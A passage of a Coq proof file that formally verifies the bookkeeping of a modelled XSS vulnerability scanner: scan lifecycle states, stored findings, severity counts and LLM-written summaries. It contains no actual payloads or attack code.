       fetch_fails_as_specified env (target_url r) → reliable env →
       find_one (rq_id r) (db_scan_results w) = None →
       ∃ d, find_one (rq_id r) (db_scan_results (scan_lifecycle env r w).2) = Some d
            ∧ status d = "completed" ∧ total_vulnerabilities d = 0%Z).
Proof.
  intros H.
  destruct (H not_found_env demo_request initial_world) as (d & Hd & _ & Htotal).
  - left. simpl. lia.
  - by intros n.
  - reflexivity.
  - vm_compute in Hd. injection Hd as <-. vm_compute in Htotal. discriminate.
Qed.

Example non_2xx_response_findings :
  (λ d, (status d, total_vulnerabilities d))
  <$> find_one "scan-1"
        (db_scan_results (scan_lifecycle not_found_env demo_request initial_world).2)
  = Some ("completed", 3%Z).
Proof. by vm_compute. Qed.

(** C6, amended: when the fetch of the target raises (transport error,
    undecodable body, or a body the parser gives up on; a response outside
    the 2xx range does not raise), the scan step returns no findings without
    raising and without any effect.  Such a scan, submitted under a fresh id
    to a store that refuses nothing, goes through pending and running to
    completed, never to failed, with zero total and counts, the fixed
    summary, and a recorded duration. *)
Theorem fetch_failure_completes (env : Env) (r : ScanRequest) (w : World) :
  fetch_raises env (target_url r) →
  perform_xss_scan env r w = (Ok [], w)
  ∧ (reliable env → find_one (rq_id r) (db_scan_results w) = None →
     ∃ d,
       find_one (rq_id r) (db_scan_results (scan_lifecycle env r w).2) = Some d
       ∧ status d = "completed"
       ∧ total_vulnerabilities d = 0%Z
       ∧ (critical_count d, high_count d, medium_count d, low_count d) = (0, 0, 0, 0)%Z
       ∧ is_Some (scan_duration d)
       ∧ ai_executive_summary d = Some no_findings_summary
       ∧ status_history (rq_id r) (events (scan_lifecycle env r w).2)
         = status_history (rq_id r) (events w) ++ ["pending"; "running"; "completed"]
       ∧ db_vulnerabilities (scan_lifecycle env r w).2 = db_vulnerabilities w).
Proof.
  intros Hf. split; [by apply perform_xss_scan_fetch_raises|].
  intros Hrel Hfresh.
  unfold scan_lifecycle, create_scan, background_scan, bind, try_except,
    insert_scan, fresh_uuid, insert_scan_result, now, update_scan_result, ret.
  simpl. rewrite !Hrel. simpl.
  rewrite (find_one_snoc (rq_id r) _ (pending_result _ (rq_id r)) Hfresh eq_refl).
  rewrite perform_xss_scan_fetch_raises by done. simpl.
  rewrite !Hrel.
  rewrite find_one_update_first by done.
  rewrite (find_one_snoc (rq_id r) _ (pending_result _ (rq_id r)) Hfresh eq_refl).
  simpl. rewrite !find_one_update_first by done.
  rewrite (find_one_snoc (rq_id r) _ (pending_result _ (rq_id r)) Hfresh eq_refl).
  simpl. eexists. split; [reflexivity|]. simpl.
  repeat split; [by eexists|].
  by rewrite !status_history_persisted, <- !app_assoc.
Qed.

Lemma fetch_failure_completes_witness :
  fetch_raises unreachable_env (target_url demo_request)
  ∧ reliable unreachable_env
  ∧ perform_xss_scan unreachable_env demo_request initial_world = (Ok [], initial_world)
  ∧ ∃ d,
      find_one "scan-1"
        (db_scan_results (scan_lifecycle unreachable_env demo_request initial_world).2)
      = Some d
      ∧ status d = "completed"
      ∧ total_vulnerabilities d = 0%Z
      ∧ scan_duration d = Some (1000 # 1000000).
Proof.
  destruct (fetch_failure_completes unreachable_env demo_request initial_world I)
    as [Hscan Hrun].
  split; [exact I|]. split; [by intros n|]. split; [exact Hscan|].
  destruct (Hrun (λ n, eq_refl) eq_refl) as (d & Hd & Hst & Htot & _).
  exists d. split; [exact Hd|]. split; [exact Hst|]. split; [exact Htot|].
  vm_compute in Hd. injection Hd as <-. reflexivity.
Defined.

(** * Further properties of the scan engine *)

(** ** Findings and tests *)

Lemma scanned_refl (sid : string) (w : World) (vs : list Vulnerability) :
  scanned sid w vs w vs.
Proof.
  split; [done|]. exists [], []. rewrite !app_nil_r. repeat split. constructor.
Qed.

Lemma scanned_trans (sid : string) (w1 w2 w3 : World) (vs1 vs2 vs3 : list Vulnerability) :
  scanned sid w1 vs1 w2 vs2 → scanned sid w2 vs2 w3 vs3 → scanned sid w1 vs1 w3 vs3.
Proof.
  intros [(Ha & Hb & Hc) (n1 & f1 & He1 & Hv1 & H1)]
         [(Ha' & Hb' & Hc') (n2 & f2 & He2 & Hv2 & H2)].
  split; [repeat split; congruence|].
  exists (n1 ++ n2), (f1 ++ f2). rewrite He2, He1, Hv2, Hv1, !app_assoc, filter_app.
  repeat split. by apply Forall2_app.
Qed.

Lemma scans_ret (sid : string) : scans sid (λ vs, ret vs).
Proof. intros vs w. exists vs, w. split; [done | apply scanned_refl]. Qed.

Lemma scans_for_each {A} (sid : string)
    (body : list Vulnerability → A → M (list Vulnerability)) (l : list A) :
  (∀ x, scans sid (λ vs, body vs x)) → scans sid (λ vs, for_each l vs body).
Proof.
  intros Hbody. induction l as [|x l IH]; [apply scans_ret|].
  intros vs w. simpl. unfold bind.
  destruct (Hbody x vs w) as (vs1 & w1 & -> & H1).
  destruct (IH vs1 w1) as (vs2 & w2 & -> & H2).
  exists vs2, w2. split; [done | by eapply scanned_trans].
Qed.

Lemma scans_test_all (env : Env) (sid ep par kind : string) (payloads : list string) :
  scans sid (test_all env sid ep par kind payloads).
Proof.
  unfold test_all. apply scans_for_each. intros pl vs w.
  unfold bind, call_test_payload, ret. eexists _, _. split; [reflexivity|].
  split; [done|]. simpl.
  exists [Tested ep par pl kind]. rewrite filter_cons, filter_nil. simpl.
  unfold test_payload at 1.
  destruct (is_vulnerable pl) eqn:Hpl.
  - rewrite decide_True by done. eexists [_]. repeat split.
    constructor; [|constructor]. simpl.
    exists (uuid4 env (ticks w)), (clock env (ticks w)).
    unfold test_payload. by rewrite Hpl.
  - rewrite decide_False by done. exists []. rewrite app_nil_r. repeat split.
    constructor.
Qed.

Lemma scans_test_forms (env : Env) (sid base_url : string) (forms : list Form)
    (payloads : list string) :
  scans sid (test_forms env sid base_url forms payloads).
Proof.
  unfold test_forms. apply scans_for_each. intros form.
  apply scans_for_each. intros fld. case_bool_decide.
  - apply scans_test_all.
  - apply scans_ret.
Qed.

Lemma scans_test_url_params (env : Env) (sid url : string) (params payloads : list string) :
  scans sid (test_url_params env sid url params payloads).
Proof.
  unfold test_url_params. apply scans_for_each. intros param.
  destruct (Str.char_in "=" param); [|apply scans_ret].
  pose proof (StrFacts.split_nonempty "=" param) as Hne.
  destruct (Str.split "=" param) as [|name rest]; [done|]. apply scans_test_all.
Qed.

Lemma perform_xss_scan_scanned (env : Env) (r : ScanRequest) (w : World) :
  ∃ vs w', perform_xss_scan env r w = (Ok vs, w') ∧ scanned (rq_id r) w [] w' vs.
Proof.
  unfold perform_xss_scan, try_except.
  unfold bind at 1. unfold lift at 1.
  destruct (urlparse_base env (target_url r)) as [base_url|];
    [|exists [], w; split; [done | apply scanned_refl]].
  unfold bind at 1. unfold fetch.
  destruct (http_get env (target_url r)) as [|code [content|]]; simpl;
    try (exists [], w; split; [done | apply scanned_refl]).
  unfold bind at 1. unfold lift at 1.
  destruct (find_forms env content) as [soup|]; simpl;
    [|exists [], w; split; [done | apply scanned_refl]].
  unfold bind.
  destruct (scans_test_forms env (rq_id r) base_url
              (if include_forms r then soup else []) (select_payloads r) [] w)
    as (vs1 & w1 & -> & H1).
  destruct (include_urls r && Str.char_in "?" (target_url r)) eqn:Hq;
    [|by exists vs1, w1].
  apply andb_true_iff in Hq as [_ Hq]. apply split_second in Hq as [query Hq].
  rewrite Hq.
  destruct (scans_test_url_params env (rq_id r) (target_url r) (Str.split "&" query)
              (select_payloads r) vs1 w1) as (vs2 & w2 & -> & H2).
  exists vs2, w2. split; [done | by eapply scanned_trans].
Qed.

(** X1: [perform_xss_scan] always returns, leaves the three collections of
    the store as they are, and its findings are, in order, exactly what
    [test_payload] returned for those tests of the scan whose payload the
    heuristic flags. *)
Theorem findings_are_the_flagged_tests (env : Env) (r : ScanRequest) (w : World) :
  ∃ vs w',
    perform_xss_scan env r w = (Ok vs, w')
    ∧ same_store w w'
    ∧ Forall2 (produced_by (rq_id r)) vs
        (filter flagged (flat_map (tests_of (select_payloads r)) (surfaces env r))).
Proof.
  destruct (perform_xss_scan_scanned env r w)
    as (vs & w' & Hrun & Hstore & new & found & Hev & -> & Hfound).
  exists found, w'. split; [done|]. split; [done|].
  pose proof (perform_xss_scan_events env r w) as Hall.
  rewrite Hrun in Hall. simpl in Hall. rewrite Hev in Hall.
  apply app_inv_head in Hall. by rewrite <- Hall.
Qed.

Lemma flat_map_no_tests (l : list Surface) : flat_map (tests_of []) l = [].
Proof. induction l as [|[ep n|ep n] l IH]; simpl; done. Qed.

(** X2: a request that selects no payload -- a scan type other than the
    three known ones, or "custom" without payloads -- is scanned without a
    single test and without a finding, whatever surfaces the target has. *)
Theorem no_payloads_no_tests (env : Env) (r : ScanRequest) (w : World) :
  scan_type r ≠ "quick" → scan_type r ≠ "comprehensive" →
  (scan_type r = "custom" → default [] (custom_payloads r) = []) →
  ∃ w', perform_xss_scan env r w = (Ok [], w')
        ∧ events w' = events w ∧ same_store w w'.
Proof.
  intros Hq Hc Hcustom.
  assert (select_payloads r = []) as Hnone.
  { unfold select_payloads.
    destruct (String.eqb_spec (scan_type r) "quick"); [done|].
    destruct (String.eqb_spec (scan_type r) "comprehensive"); [done|].
    destruct (String.eqb_spec (scan_type r) "custom") as [Hcu|]; [|done].
    specialize (Hcustom Hcu). by destruct (custom_payloads r) as [[|]|]. }
  destruct (perform_xss_scan_scanned env r w)
    as (vs & w' & Hrun & Hstore & new & found & Hev & -> & Hfound).
  pose proof (perform_xss_scan_events env r w) as Hall.
  rewrite Hrun, Hnone, flat_map_no_tests in Hall. simpl in Hall.
  rewrite Hev in Hall. apply app_inv_head in Hall. subst new.
  simpl in Hfound. apply Forall2_nil_inv_r in Hfound as ->.
  exists w'. rewrite app_nil_r in Hev. simpl in Hrun. by split; [|split].
Qed.

Lemma no_payloads_no_tests_witness :
  scan_type (sample_request "https://x.test/p?name=foo" "custom") ≠ "quick"
  ∧ ∃ w', perform_xss_scan demo_env (sample_request "https://x.test/p?name=foo" "custom")
            initial_world = (Ok [], w')
          ∧ events w' = events initial_world ∧ same_store initial_world w'.
Proof.
  split; [done|].
  apply (no_payloads_no_tests demo_env
           (sample_request "https://x.test/p?name=foo" "custom") initial_world); done.
Defined.

(** ** The orchestration, for any invariant of the status writes *)

Section BackgroundGeneral.

Variable env : Env.
Variable G : World → Prop.
Variable r : ScanRequest.
Hypothesis G_stable : stable G.
Hypothesis G_running :
  ∀ t, keeps G (update_scan_result env (rq_id r) (set_running t)) (λ _, True).
Hypothesis G_failed :
  ∀ t, keeps G (update_scan_result env (rq_id r) (set_failed t)) (λ _, True).
Hypothesis G_completed :
  ∀ (analyzed : list Vulnerability) counts summary duration t,
    tallied counts analyzed →
    Forall (λ v, severity v ∈ ["critical"; "medium"; "high"]) analyzed →
    (analyzed = [] → summary = no_findings_summary) →
    keeps G
      (update_scan_result env (rq_id r)
         (set_completed (Z.of_nat (length analyzed)) counts summary duration t))
      (λ _, True).

Lemma keeps_background_scan_general : keeps G (background_scan env r) (λ _, True).
Proof.
  unfold background_scan. apply keeps_try.
  - eapply keeps_bind; [by apply keeps_now|]. intros started _.
    eapply keeps_bind; [apply G_running|]. intros _ _.
    eapply keeps_bind; [by apply keeps_now|]. intros start_time _.
    eapply keeps_bind; [by apply keeps_perform_xss_scan|]. intros vs Hvs.
    eapply keeps_bind; [by apply keeps_analyze_all|]. intros analyzed Han.
    eapply keeps_bind; [by apply keeps_now|]. intros end_time _.
    eapply keeps_bind; [apply keeps_tally|]. intros counts Hc.
    assert (Forall (λ v, severity v ∈ ["critical"; "medium"; "high"]) analyzed) as H3.
    { apply Forall_fmap with (f := severity) (P := λ s, s ∈ ["critical"; "medium"; "high"]).
      rewrite Han. apply Forall_fmap.
      eapply Forall_impl; [exact Hvs|]. apply from_test_payload_severity. }
    eapply keeps_bind with (Q := λ summary, analyzed = [] → summary = no_findings_summary).
    + destruct analyzed; [by apply keeps_ret|].
      eapply keeps_weaken; [by apply keeps_ask | done].
    + intros summary Hsum. by apply G_completed.
  - intros _. eapply keeps_bind; [by apply keeps_now|]. intros failed_at _.
    apply G_failed.
Qed.

End BackgroundGeneral.

(** ** What a completed record holds *)

Lemma reachable_store_inv_general (env : Env) (P : ScanResult → Prop) :
  (∀ fresh_id sid, P (pending_result fresh_id sid)) →
  (∀ t d, P d → P (set_running t d)) →
  (∀ t d, P d → P (set_failed t d)) →
  (∀ (analyzed : list Vulnerability) counts summary duration t d,
     tallied counts analyzed →
     (analyzed = [] → summary = no_findings_summary) →
     P (set_completed (Z.of_nat (length analyzed)) counts summary duration t d)) →
  ∀ w, reachable env w → store_inv P w.
Proof.
  intros Hp Hr Hf Hc w. induction 1 as [|r w _ IH|r w _ IH|sid w _ IH].
  - constructor.
  - pose proof (keeps_create_scan env P Hp r w IH) as H.
    destruct (create_scan env r w) as [[a|e] w']; simpl; [by destruct H | done].
  - assert (keeps (store_inv P) (background_scan env r) (λ _, True)) as Hk.
    { apply keeps_background_scan_general.
      - apply store_inv_stable.
      - intros t. apply keeps_update_scan_result, Hr.
      - intros t. apply keeps_update_scan_result, Hf.
      - intros analyzed counts summary duration t Hct _ Hsum.
        apply keeps_update_scan_result. intros d _. by apply Hc. }
    specialize (Hk w IH).
    destruct (background_scan env r w) as [[a|e] w']; simpl; [by destruct Hk | done].
  - pose proof (keeps_get_scan_vulnerabilities env _ (store_inv_stable P) sid w IH) as H.
    destruct (get_scan_vulnerabilities env sid w) as [[a|e] w']; simpl;
      [by destruct H | done].
Qed.

(** X3: in every store the endpoints and the background task can lead to, a
    completed record has its risk score, executive summary, duration and
    completion time set, its counts are not negative, and when its total is
    zero the summary is the fixed no-findings sentence. *)
Theorem completed_record_is_filled (env : Env) (w : World) (d : ScanResult) :
  reachable env w → d ∈ db_scan_results w → status d = "completed" →
  is_Some (ai_risk_score d) ∧ is_Some (ai_executive_summary d)
  ∧ is_Some (scan_duration d) ∧ is_Some (completed_at d)
  ∧ (0 ≤ critical_count d ∧ 0 ≤ high_count d ∧ 0 ≤ medium_count d ∧ 0 ≤ low_count d)%Z
  ∧ (total_vulnerabilities d = 0%Z →
     ai_executive_summary d = Some no_findings_summary).
Proof.
  intros Hw Hd.
  pose (P := λ d : ScanResult, status d = "completed" →
    is_Some (ai_risk_score d) ∧ is_Some (ai_executive_summary d)
    ∧ is_Some (scan_duration d) ∧ is_Some (completed_at d)
    ∧ (0 ≤ critical_count d ∧ 0 ≤ high_count d ∧ 0 ≤ medium_count d ∧ 0 ≤ low_count d)%Z
    ∧ (total_vulnerabilities d = 0%Z →
       ai_executive_summary d = Some no_findings_summary)).
  assert (store_inv P w) as Hinv.
  { apply (reachable_store_inv_general env P); unfold P; simpl; try done.
    intros analyzed counts summary duration t _ Hc Hsum _.
    repeat split; try by eexists.
    1-4: rewrite (tallied_lookup counts analyzed) by (done || set_solver);
         unfold count_sev; lia.
    intros H0. f_equal. apply Hsum. destruct analyzed; [done | simpl in H0; lia]. }
  unfold store_inv in Hinv. rewrite Forall_forall in Hinv. by apply Hinv.
Qed.

Lemma completed_record_is_filled_witness :
  let d := default no_result (head (db_scan_results demo_world)) in
  status d = "completed" ∧ is_Some (ai_executive_summary d) ∧ is_Some (scan_duration d).
Proof.
  intros d. split; [reflexivity|].
  destruct (completed_record_is_filled demo_env demo_world d) as (_ & H1 & H2 & _).
  - exact demo_world_reachable.
  - vm_compute. left.
  - reflexivity.
  - by split.
Defined.

(** ** Scans do not touch each other's records *)



Section OtherScans.

Variable env : Env.
Variables sid sid0 : string.
Variable view : list ScanResult * list string.
Hypothesis sid_other : sid ≠ sid0.




End OtherScans.



(** ** The findings a scan stores *)

Lemma tests_of_kind (payloads : list string) (ss : list Surface) (e : Event) :
  e ∈ flat_map (tests_of payloads) ss →
  ∃ ep par p kind, e = Tested ep par p kind ∧ kind ∈ ["form_input"; "url_parameter"].
Proof.
  rewrite list_elem_of_In, in_flat_map. intros ([ep n|ep n] & _ & He); simpl in He;
    apply in_map_iff in He as (p & <- & _); eexists _, _, _, _; split; try done;
    set_solver.
Qed.

Lemma produced_by_raw (sid : string) (v : Vulnerability) (e : Event)
    (payloads : list string) (ss : list Surface) :
  produced_by sid v e → e ∈ flat_map (tests_of payloads) ss → raw_finding sid v.
Proof.
  intros Hv He. apply tests_of_kind in He as (ep & par & p & kind & -> & Hk).
  destruct Hv as (id & t & Hv).
  pose proof (test_payload_Some _ _ _ _ _ _ _ _ Hv) as (Hvul & Hsev & Hpl & Hsid).
  unfold test_payload in Hv. rewrite Hvul in Hv. injection Hv as <-.
  repeat split; try done. simpl. set_unfold in Hk.
  destruct Hk as [-> | [-> | []]]; set_solver.
Qed.

Lemma perform_xss_scan_raw (env : Env) (r : ScanRequest) (w : World) :
  ∃ vs w', perform_xss_scan env r w = (Ok vs, w') ∧ same_store w w'
           ∧ Forall (raw_finding (rq_id r)) vs.
Proof.
  destruct (perform_xss_scan_scanned env r w)
    as (vs & w' & Hrun & Hstore & new & found & Hev & -> & Hfound).
  exists found, w'. split; [done|]. split; [done|].
  pose proof (perform_xss_scan_events env r w) as Hall.
  rewrite Hrun in Hall. simpl in Hall. rewrite Hev in Hall.
  apply app_inv_head in Hall. subst new.
  apply Forall_forall. intros v Hv.
  apply list_elem_of_lookup in Hv as [i Hi].
  destruct (Forall2_lookup_l _ _ _ _ _ Hfound Hi) as (e & He & Hp).
  apply list_elem_of_lookup_2, list_elem_of_filter in He as [_ He].
  by eapply produced_by_raw.
Qed.

Section QuietFrame.

Variable env : Env.
Variable G : World → Prop.
Hypothesis G_quiet : quiet G.

Lemma keeps_now_quiet : keeps G (now env) (λ _, True).
Proof. intros w Hw. split; [|done]. by apply (G_quiet w). Qed.

Lemma keeps_ask_quiet (p : Persona) (session_id prompt : string) :
  keeps G (ask env p session_id prompt) (λ _, True).
Proof.
  intros w Hw. unfold ask.
  destruct (llm env (ticks w) p session_id prompt); [split; [|done]|];
    by apply (G_quiet w).
Qed.

Lemma keeps_update_quiet (sid : string) (patch : ScanResult → ScanResult) :
  keeps G (update_scan_result env sid patch) (λ _, True).
Proof.
  intros w Hw. unfold update_scan_result.
  destruct (store_ok env (ticks w)); [|by apply (G_quiet w)].
  destruct (find_one sid (db_scan_results w)); (split; [|done]); by apply (G_quiet w).
Qed.

Lemma keeps_perform_quiet (r : ScanRequest) :
  keeps G (perform_xss_scan env r) (Forall (raw_finding (rq_id r))).
Proof.
  intros w Hw.
  destruct (perform_xss_scan_raw env r w) as (vs & w' & -> & (Hs & _ & Hv) & Hraw).
  split; [|done]. by apply (G_quiet w).
Qed.

Lemma keeps_analyze_quiet (sid : string) (v : Vulnerability) :
  raw_finding sid v →
  keeps G (analyze_vulnerability_with_ai env v) (λ v', enriched v' ∧ v_scan_id v' = sid).
Proof.
  intros (Hfrom & Hsid & Hfp & Hty) w Hw. unfold analyze_vulnerability_with_ai.
  pose proof (keeps_ask_quiet Gpt4 ("vuln_analysis_" +:+ v_id v) (analysis_prompt v) w Hw)
    as H1.
  destruct (ask env Gpt4 _ _ w) as [[a|e] w1].
  - destruct H1 as [Hw1 _].
    pose proof (keeps_ask_quiet Claude ("remediation_" +:+ v_id (with_summary a v))
                  (remediation_prompt (with_summary a v)) w1 Hw1) as H2.
    destruct (ask env Claude _ _ w1) as [[b|e] w2]; [destruct H2 as [H2 _]|];
      (split; [done|]); unfold enriched; simpl; by eauto 10.
  - split; [done|]. unfold enriched; simpl; by eauto 10.
Qed.

End QuietFrame.

(** The loop rule for a list whose elements all satisfy [R]. *)
Lemma keeps_for_each_Forall {A B} (G : World → Prop) (R : B → Prop)
    (I : list B → A → Prop) (body : A → B → M A) (l : list B) :
  Forall R l →
  (∀ pre x s, R x → I pre s → keeps G (body s x) (I (pre ++ [x]))) →
  ∀ pre s, I pre s → keeps G (for_each l s body) (I (pre ++ l)).
Proof.
  intros Hl Hbody. induction Hl as [|x l Hx _ IH]; intros pre s Hs; simpl.
  - rewrite app_nil_r. by apply keeps_ret.
  - intros w Hw. unfold bind. pose proof (Hbody pre x s Hx Hs w Hw) as Hb.
    destruct (body s x w) as [[s'|e] w']; [|done].
    destruct Hb as [Hw' Hs']. specialize (IH _ _ Hs' w' Hw').
    by rewrite <- app_assoc in IH.
Qed.

Lemma findings_grown_quiet (sid : string) (w0 : World) : quiet (findings_grown sid w0).
Proof. intros w w' Hs Hv [H1 H2]. split; [congruence | by rewrite Hv]. Qed.

Lemma keeps_insert_vulnerability_grown (env : Env) (sid : string) (w0 : World)
    (v : Vulnerability) :
  enriched v → v_scan_id v = sid →
  keeps (findings_grown sid w0) (insert_vulnerability env v) (λ _, True).
Proof.
  intros He Hsid w [Hs (added & Hadd & Hall)]. unfold insert_vulnerability.
  destruct (store_ok env (ticks w)); [|split; [done | by exists added]].
  split; [|done]. split; [done|]. exists (added ++ [v]). simpl.
  rewrite Hadd, app_assoc. split; [done|]. apply Forall_app. split; [done|].
  by constructor.
Qed.

(** The findings [background_scan] stores. *)
Lemma background_scan_findings (env : Env) (r : ScanRequest) (w : World) :
  findings_grown (rq_id r) w (background_scan env r w).2.
Proof.
  pose proof (findings_grown_quiet (rq_id r) w) as Hq.
  assert (keeps (findings_grown (rq_id r) w) (background_scan env r) (λ _, True)) as Hk.
  { unfold background_scan. apply keeps_try.
    - eapply keeps_bind; [by apply keeps_now_quiet|]. intros started _.
      eapply keeps_bind; [by apply keeps_update_quiet|]. intros _ _.
      eapply keeps_bind; [by apply keeps_now_quiet|]. intros start_time _.
      eapply keeps_bind; [by apply keeps_perform_quiet|]. intros vs Hvs.
      eapply keeps_bind with (Q := λ _, True).
      { eapply keeps_weaken.
        - apply (keeps_for_each_Forall _ (raw_finding (rq_id r)) (λ _ _, True))
            with (pre := []); [done| |done].
          intros pre v acc Hv _.
          eapply keeps_bind; [by apply keeps_analyze_quiet|]. intros v' [He Hs].
          eapply keeps_bind; [by apply keeps_insert_vulnerability_grown|].
          intros _ _. by apply keeps_ret.
        - done. }
      intros analyzed _.
      eapply keeps_bind; [by apply keeps_now_quiet|]. intros end_time _.
      eapply keeps_bind; [apply keeps_tally|]. intros counts _.
      eapply keeps_bind with (Q := λ _, True).
      + destruct analyzed; [by apply keeps_ret | by apply keeps_ask_quiet].
      + intros summary _. by apply keeps_update_quiet.
    - intros _. eapply keeps_bind; [by apply keeps_now_quiet|]. intros failed_at _.
      by apply keeps_update_quiet. }
  assert (findings_grown (rq_id r) w w) as H0.
  { split; [done|]. exists []. by rewrite app_nil_r. }
  specialize (Hk w H0).
  destruct (background_scan env r w) as [[a|e] w']; simpl; [by destruct Hk | done].
Qed.

Lemma enriched_severity (v : Vulnerability) :
  enriched v → severity v ∈ ["critical"; "medium"; "high"].
Proof. intros [H _]. by apply from_test_payload_severity. Qed.

(** X5: whether it completes or fails, [background_scan] only appends to
    the stored findings: those stored before stay as they were and in place,
    the stored requests are not touched, and every finding appended belongs
    to the scan, carries both enrichment texts, and is labelled critical,
    medium or high. *)
Theorem stored_findings_only_grow (env : Env) (r : ScanRequest) (w : World) :
  db_scans (background_scan env r w).2 = db_scans w
  ∧ ∃ added,
      db_vulnerabilities (background_scan env r w).2 = db_vulnerabilities w ++ added
      ∧ Forall (λ v, v_scan_id v = rq_id r
                     ∧ is_Some (ai_summary v) ∧ is_Some (remediation_suggestion v)
                     ∧ severity v ∈ ["critical"; "medium"; "high"]) added.
Proof.
  destruct (background_scan_findings env r w) as [Hs (added & Hadd & Hall)].
  split; [done|]. exists added. split; [done|].
  eapply Forall_impl; [exact Hall|]. intros v [He Hsid]. simpl.
  split; [done|]. pose proof (enriched_severity v He).
  destruct He as (_ & H1 & H2 & _). done.
Qed.

Lemma create_scan_findings (env : Env) (r : ScanRequest) (w : World) :
  db_vulnerabilities (create_scan env r w).2 = db_vulnerabilities w.
Proof.
  unfold create_scan, bind, insert_scan, fresh_uuid, insert_scan_result, ret.
  destruct (store_ok env (ticks w)); simpl; [|done].
  destruct (store_ok env (S (S (ticks w)))); done.
Qed.

Lemma reachable_findings_enriched (env : Env) (w : World) :
  reachable env w → Forall enriched (db_vulnerabilities w).
Proof.
  induction 1 as [|r w _ IH|r w _ IH|sid w _ IH].
  - constructor.
  - by rewrite create_scan_findings.
  - destruct (background_scan_findings env r w) as [_ (added & -> & Hall)].
    apply Forall_app. split; [done|]. eapply Forall_impl; [exact Hall|]. by intros v [? _].
  - unfold get_scan_vulnerabilities. by destruct (store_ok env (ticks w)).
Qed.

(** X6: in every store the endpoints and the background task can lead to,
    each stored finding has a payload the heuristic flags and the severity of
    the priority chain for that payload (so critical, medium or high), both
    enrichment texts, the flag [false_positive] unset, and one of the two
    types "XSS_form_input" and "XSS_url_parameter". *)
Theorem stored_findings_are_enriched (env : Env) (w : World) (v : Vulnerability) :
  reachable env w → v ∈ db_vulnerabilities w →
  is_vulnerable (payload v) = true
  ∧ severity v = severity_of (payload v)
  ∧ severity v ∈ ["critical"; "medium"; "high"]
  ∧ is_Some (ai_summary v) ∧ is_Some (remediation_suggestion v)
  ∧ false_positive v = false
  ∧ vulnerability_type v ∈ ["XSS_form_input"; "XSS_url_parameter"].
Proof.
  intros Hw Hv. apply reachable_findings_enriched in Hw.
  rewrite Forall_forall in Hw. specialize (Hw v Hv).
  pose proof (enriched_severity v Hw). destruct Hw as ([? ?] & ? & ? & ? & ?). done.
Qed.

Lemma stored_findings_are_enriched_witness :
  let v := default sample_finding (head (db_vulnerabilities demo_world)) in
  v ∈ db_vulnerabilities demo_world
  ∧ ai_summary v = Some "analysis"
  ∧ severity v ∈ ["critical"; "medium"; "high"].
Proof.
  intros v.
  assert (v ∈ db_vulnerabilities demo_world) as Hv by (vm_compute; left).
  split; [exact Hv|]. split; [reflexivity|].
  by destruct (stored_findings_are_enriched demo_env demo_world v demo_world_reachable Hv)
    as (_ & _ & H3 & _).
Defined.

(** ** The total of a completed scan and the findings it stored *)

Section Framed.

Variable env : Env.
Variable G : World → Prop.
Hypothesis G_framed : framed G.

Lemma keeps_now_framed : keeps G (now env) (λ _, True).
Proof. intros w Hw. split; [|done]. by apply (G_framed w). Qed.

Lemma keeps_ask_framed (p : Persona) (session_id prompt : string) :
  keeps G (ask env p session_id prompt) (λ _, True).
Proof.
  intros w Hw. unfold ask.
  destruct (llm env (ticks w) p session_id prompt); [split; [|done]|];
    apply (G_framed w); try done; intros; simpl;
    by rewrite status_history_app, app_nil_r.
Qed.

Lemma keeps_perform_framed (r : ScanRequest) :
  keeps G (perform_xss_scan env r) (Forall (raw_finding (rq_id r))).
Proof.
  intros w Hw.
  pose proof (keeps_perform_xss_scan env
                (λ w', ∀ sid, status_history sid (events w')
                              = status_history sid (events w))) as Hh.
  destruct (perform_xss_scan_raw env r w) as (vs & w' & Hrun & Hstore & Hraw).
  rewrite Hrun. split; [|done]. apply (G_framed w); [done| |done].
  assert (stable (λ w', ∀ sid, status_history sid (events w')
                               = status_history sid (events w))) as Hst.
  { intros w1 w2 _ He H sid. by rewrite He. }
  specialize (Hh Hst r w (λ _, eq_refl)). rewrite Hrun in Hh. by destruct Hh.
Qed.

Lemma keeps_analyze_framed (v : Vulnerability) :
  keeps G (analyze_vulnerability_with_ai env v) (λ v', v_scan_id v' = v_scan_id v).
Proof.
  intros w Hw. unfold analyze_vulnerability_with_ai.
  pose proof (keeps_ask_framed Gpt4 ("vuln_analysis_" +:+ v_id v) (analysis_prompt v) w Hw)
    as H1.
  destruct (ask env Gpt4 _ _ w) as [[a|e] w1]; [|done].
  destruct H1 as [Hw1 _].
  pose proof (keeps_ask_framed Claude ("remediation_" +:+ v_id (with_summary a v))
                (remediation_prompt (with_summary a v)) w1 Hw1) as H2.
  destruct (ask env Claude _ _ w1) as [[b|e] w2]; [destruct H2|]; done.
Qed.

End Framed.

(** The loop rule for invariants of the loop variables and the world. *)
Lemma triple_for_each {A B} (R : B → Prop) (I : A → World → Prop)
    (E : Exn → World → Prop) (body : A → B → M A) (l : list B) :
  Forall R l →
  (∀ s x, R x → triple (I s) (body s x) I E) →
  ∀ s, triple (I s) (for_each l s body) I E.
Proof.
  intros Hl Hbody. induction Hl as [|x l Hx _ IH]; intros s; simpl.
  - by intros w Hw.
  - eapply triple_bind; [by apply Hbody | apply IH].
Qed.

Lemma open_scan_framed (sid : string) (before added : list Vulnerability) :
  framed (open_scan sid before added).
Proof.
  intros w w' (_ & Hr & Hv) _ (Hd & Hb & Ha).
  split; [by rewrite Hr | by rewrite Hv].
Qed.

Section CompletedTotal.

Variable env : Env.
Variable r : ScanRequest.
Variable before : list Vulnerability.

Lemma triple_update_open (added : list Vulnerability) (st : string)
    (patch : ScanResult → ScanResult) :
  st ≠ "completed" →
  (∀ d, status (patch d) = st) → (∀ d, sr_scan_id (patch d) = sr_scan_id d) →
  triple (open_scan (rq_id r) before added)
    (update_scan_result env (rq_id r) patch)
    (λ _, open_scan (rq_id r) before added)
    (λ _, open_scan (rq_id r) before added).
Proof.
  intros Hst Hp Hid w ((d & Hd & Hs) & Hb & Ha). unfold update_scan_result.
  destruct (store_ok env (ticks w)); [|by repeat split; eauto].
  rewrite Hd. split; [|done]. exists (patch d). simpl.
  rewrite find_one_update_first, Hd by done. split; [done | by rewrite Hp].
Qed.

Lemma triple_insert_open (added : list Vulnerability) (v : Vulnerability) :
  v_scan_id v = rq_id r →
  triple (open_scan (rq_id r) before added)
    (insert_vulnerability env v)
    (λ _, open_scan (rq_id r) before (added ++ [v]))
    (λ _, open_scan (rq_id r) before added).
Proof.
  intros Hv w (Hd & Hb & Ha). unfold insert_vulnerability.
  destruct (store_ok env (ticks w)); [|done].
  split; [done|]. simpl. rewrite Hb, app_assoc. split; [done|].
  apply Forall_app. split; [done | by constructor].
Qed.

(** The body and the handler of [background_scan], for a scan whose record
    is not completed. *)
Lemma background_scan_closes :
